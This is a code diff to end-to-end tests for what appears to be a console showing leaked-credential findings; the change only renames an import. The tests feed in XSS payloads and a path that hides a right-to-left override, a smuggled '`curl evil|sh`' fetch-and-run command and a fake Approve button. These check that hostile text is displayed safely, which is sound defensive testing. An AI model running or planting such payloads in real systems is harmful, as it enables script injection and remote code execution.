@@ -9,7 +9,7 @@ from urllib.parse import urlsplit
 from azure.core.messaging import CloudEvent
 from playwright.async_api import Browser, expect
 
-from shared.domain import finding
+from shared.domain import report as findings
 from shared.domain.states import State
 from tests.e2e.test_sources import fingerprint as fingerprint_of
 from tests.e2e.test_sources import made, post
@@ -170,14 +170,14 @@ async def test_hostile_text_stays_text(console: ConsolePage, deployment: Deploym
     account = await deployment.account()
     leaked = account_sas(account.name, account.keys["key1"])
     account.blob_service["isVersioningEnabled"] = True  # so that there is a command of ours
-    [found] = finding.in_text(
+    [found] = findings.in_text(
         leaked,
         source="<img src=x onerror=alert(1)>",
         url="https://x/<script>alert(2)</script>",
         detected_at=datetime.now(UTC),
     )
     data = found.finding.to_data()
-    await deployment.publish(CloudEvent(source="/t", type=finding.REPORTED, id=found.finding.fingerprint, data=data))
+    await deployment.publish(CloudEvent(source="/t", type=findings.REPORTED, id=found.finding.fingerprint, data=data))
     await deployment.settled(found.finding.fingerprint, until=lambda record: bool(record.remains))
 
     await console.open(f"#/record/{found.finding.fingerprint}", as_="reader")
@@ -193,14 +193,14 @@ async def test_hostile_text_stays_text(console: ConsolePage, deployment: Deploym
 async def test_path_that_hides_its_end_is_shown_in_its_order(console: ConsolePage, deployment: Deployment) -> None:
     """The API has a leak's path as it is, since programs compare it; the console shows no bidirectional override."""
     account = await deployment.account()
-    [found] = finding.in_text(
+    [found] = findings.in_text(
         small_sas(account.name, account.keys["key1"]), source="wiki", url=None, detected_at=datetime.now(UTC)
     )
     credential = found.finding.credential
     assert credential is not None
     hidden = replace(credential, path=f"{credential.path}\u202eexe.`curl evil|sh`<button>Approve</button>")
     data = replace(found.finding, credential=hidden).to_data()
-    await deployment.publish(CloudEvent(source="/t", type=finding.REPORTED, id=found.finding.fingerprint, data=data))
+    await deployment.publish(CloudEvent(source="/t", type=findings.REPORTED, id=found.finding.fingerprint, data=data))
     await deployment.settled(found.finding.fingerprint)
 
     await console.open(f"#/record/{found.finding.fingerprint}", as_="reader")
